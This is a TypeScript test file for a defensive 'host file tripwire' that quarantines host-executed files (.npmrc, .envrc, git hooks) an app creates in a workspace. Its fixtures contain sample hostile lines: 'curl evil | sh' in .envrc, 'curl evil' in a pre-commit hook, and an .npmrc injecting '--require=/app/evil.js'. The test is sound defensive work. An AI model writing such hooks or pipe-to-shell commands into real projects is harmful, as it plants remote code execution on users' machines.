import * as assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { HostFileTripwire, hostExecutedEntries } from '../../../src/core/runtime/hostFileTripwire';

describe('HostFileTripwire (real files)', () => {
  let root: string;
  let quarantine: string;
  const wires: HostFileTripwire[] = [];
  const reports: string[] = [];
  const put = (rel: string, text: string) => {
    mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    writeFileSync(path.join(root, rel), text);
  };
  const wire = () => {
    const w = new HostFileTripwire(root, (t) => reports.push(t), quarantine);
    wires.push(w);
    return w;
  };

  beforeEach(() => {
    root = mkdtempSync(path.join(tmpdir(), 'autodev-tripwire-'));
    quarantine = mkdtempSync(path.join(tmpdir(), 'autodev-quarantine-test-'));
    reports.length = 0;
  });
  afterEach(() => {
    for (const w of wires.splice(0)) w.dispose();
    rmSync(root, { recursive: true, force: true });
    rmSync(quarantine, { recursive: true, force: true });
  });

  it('lists host-executed entries at any depth, a host-executed folder as one entry, not inside dependency folders', () => {
    put('.gitignore', 'node_modules\n');
    put('app.py', 'print(1)\n');
    put('.github/workflows/ci.yml', 'on: push\n');
    put('config/.gitignore', '!.env\n');
    put('node_modules/left-pad/.npmrc', 'x\n');
    assert.deepEqual([...hostExecutedEntries(root)].sort(), ['.github', '.gitignore', 'config/.gitignore']);
  });

  it('moves what appeared since it started into quarantine (nothing deleted), reports each, and leaves what was there', () => {
    put('.gitignore', '.env\n');
    put('.github/workflows/ci.yml', 'on: push\n');
    const w = wire();
    put('.npmrc', 'node-options=--require=/app/evil.js\n');
    put('config/.gitignore', '!.env\n');
    put('.husky/pre-commit', '#!/bin/sh\ncurl evil\n');
    put('.github/workflows/new.yml', 'on: push\n');
    put('data.txt', 'the app may write its own files\n');
    const moved = w.check().sort();
    assert.deepEqual(moved, ['.husky', '.npmrc', 'config/.gitignore']);
    for (const rel of moved) assert.equal(existsSync(path.join(root, rel)), false, `${rel} still in the workspace`);
    assert.ok(existsSync(path.join(root, '.gitignore')) && existsSync(path.join(root, 'data.txt')));
    assert.ok(existsSync(path.join(root, '.github/workflows/new.yml')), 'inside a folder that was there: the read-only mount covers it');
    assert.equal(reports.length, 3);
    const npmrc = reports.find((r) => r.includes('created .npmrc'))!;
    const to = /to (\S+)\. If you made it/.exec(npmrc)?.[1];
    assert.ok(to && to.startsWith(quarantine), npmrc);
    assert.equal(readFileSync(to!, 'utf8'), 'node-options=--require=/app/evil.js\n', 'kept, byte for byte');
    assert.deepEqual(w.check(), [], 'nothing new: nothing more to do');
  });

  it('moves a top-level one at once, without waiting for the app to exit', async () => {
    wire();
    put('.envrc', 'curl evil | sh\n');
    const end = Date.now() + 5000;
    while (existsSync(path.join(root, '.envrc')) && Date.now() < end) await new Promise((r) => setTimeout(r, 20));
    assert.equal(existsSync(path.join(root, '.envrc')), false, 'the folder watch moved it');
    assert.equal(reports.length, 1);
    assert.match(reports[0], /the app created \.envrc/);
  });

  it("leaves what appears while the app is not running (the user's) and takes it as given when the app starts again", async () => {
    const w = wire();
    put('.npmrc', 'app\n');
    w.appExited();
    assert.equal(existsSync(path.join(root, '.npmrc')), false, 'the app left it: moved when it exited');
    put('.github/workflows/ci.yml', 'the user adds CI while reviewing a fix\n');
    put('.envrc', 'the user\n');
    await new Promise((r) => setTimeout(r, 200));
    assert.ok(existsSync(path.join(root, '.envrc')), 'no watch while the app is stopped');
    w.appRestarting();
    assert.ok(existsSync(path.join(root, '.github/workflows/ci.yml')) && existsSync(path.join(root, '.envrc')));
    put('.pre-commit-config.yaml', 'the app again\n');
    w.appRestarting(); // a restart of a running app: it made that
    assert.equal(existsSync(path.join(root, '.pre-commit-config.yaml')), false);
    put('.gitattributes', 'the app, just before it was removed\n');
    w.containerRemoved();
    assert.equal(existsSync(path.join(root, '.gitattributes')), false);
    assert.deepEqual(reports.map((r) => /created (\S+),/.exec(r)?.[1]), ['.npmrc', '.pre-commit-config.yaml', '.gitattributes']);
  });

  it('does nothing once disposed', () => {
    const w = wire();
    w.dispose();
    put('.npmrc', 'x\n');
    assert.deepEqual(w.check(), []);
    assert.ok(existsSync(path.join(root, '.npmrc')));
  });
});
